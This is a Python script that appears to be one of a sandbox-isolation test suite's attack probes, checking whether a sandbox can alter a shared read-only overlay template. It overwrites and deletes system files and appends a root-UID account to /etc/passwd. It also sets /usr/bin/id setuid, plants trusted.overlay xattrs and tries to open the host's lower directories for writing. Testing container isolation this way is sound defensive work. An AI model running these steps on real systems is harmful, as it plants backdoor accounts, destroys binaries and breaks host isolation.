"""Modify the shared read-only template (overwrite, append, chmod, delete, overlay xattrs, its host lower dir): changes must stay in this sandbox's own layer (runner checks the template)."""
import ctypes
import os

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import stat  # noqa: E402

SYS_setxattr = 188
# the runner re-checks these on the host template and in a fresh sandbox
TARGETS = ["/etc/debian_version", "/usr/lib/os-release", "/etc/passwd", "/usr/bin/env", "/usr/bin/id", "/usr/bin/perl"]


def main():
    changed = []
    try:
        with open("/etc/debian_version", "w") as f:
            f.write("fbx-tampered\n")
        with open("/usr/lib/os-release", "a") as f:
            f.write("FBX_TAMPERED=1\n")
        with open("/etc/passwd", "a") as f:
            f.write("fbx:x:0:0::/root:/bin/sh\n")
        os.unlink("/usr/bin/env")
        os.chmod("/usr/bin/id", 0o4777)
        with open("/usr/bin/perl", "r+b") as f:
            f.write(b"FBX!")
        changed = TARGETS
    except OSError as e:
        NOTES.append("modifying a template file in place failed: %s" % e)
    if changed:
        NOTES.append("modified %d template files in this sandbox's view (copy-up into its own layer)" % len(changed))
    # overlay-private xattrs would redirect lookups or hide lower entries
    os.makedirs("/root/fbx-ovl", exist_ok=True)
    for name, value in (("trusted.overlay.redirect", b"/etc"), ("trusted.overlay.opaque", b"y"),
                        ("trusted.overlay.origin", b"\0"), ("trusted.overlay.metacopy", b"")):
        r, e = sysc(SYS_setxattr, ctypes.c_char_p(b"/root/fbx-ovl"), ctypes.c_char_p(name.encode()),
                    ctypes.c_char_p(value), len(value), 0)
        if r == 0:
            ESCAPES.append("set %s on a directory of the overlay" % name)
        else:
            NOTES.append("setxattr %s: %s" % (name, en(e)))
    # the template's host copy and the layers by their host paths
    lower = []
    with open("/proc/self/mountinfo") as f:
        for line in f:
            for opt in line.replace(" ", ",").split(","):
                if opt.startswith(("lowerdir=", "upperdir=")):
                    lower.append(opt.split("=", 1)[1].split(":")[0])
    state = os.environ.get("FB_STATE_DIR")
    if state:
        lower.append(os.path.join(state, "templates/default/rootfs"))
    for d in lower:
        for rel in ("etc/debian_version", "usr/bin/env"):
            p = os.path.join(d, rel)
            try:
                fd = os.open(p, os.O_WRONLY | os.O_APPEND)
                ESCAPES.append("opened the host copy %s for writing" % p)
                os.close(fd)
            except OSError as e:
                if rel == "usr/bin/env":
                    NOTES.append("%s: %s" % (p, en(e.errno)))
    st = os.stat("/usr/bin/id")
    if not st.st_mode & stat.S_ISUID:
        NOTES.append("note: chmod of /usr/bin/id did not stick here")


if __name__ == "__main__":
    finish(main)
